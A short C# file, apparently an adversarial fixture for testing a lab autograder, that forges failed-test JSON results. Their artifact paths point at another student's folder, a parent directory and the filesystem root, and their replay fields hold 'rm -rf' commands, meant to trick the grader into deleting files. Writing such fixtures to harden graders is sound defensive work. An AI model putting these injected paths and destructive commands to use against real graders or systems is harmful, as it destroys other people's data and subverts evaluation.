using LabRpc;

namespace Students.NoDuplicateDetection;

// Writes a failed result whose failure files are another student's results folder and the grader's own output, in the
// old protocol's shape, hoping the grader moves (and so deletes) them; then leaves.
static class Attack
{
    public static void Run(IRuntime runtime)
    {
        using var stdout = new StreamWriter(Console.OpenStandardOutput()) { AutoFlush = true };
        string id = "kvsrv/OneClientAppendsAndGetsInOrder";
        foreach (string target in new[] { "../../honest", "../..", "/" })
            stdout.WriteLine("{\"result\":{\"id\":\"" + id + "\",\"group\":\"kvsrv\",\"name\":\"OneClientAppendsAndGetsInOrder\",\"outcome\":\"Failed\"," +
                "\"artifacts\":\"" + target + "\",\"replay\":\"rm -rf " + target + "\"}}");
        Environment.Exit(1);
    }
}
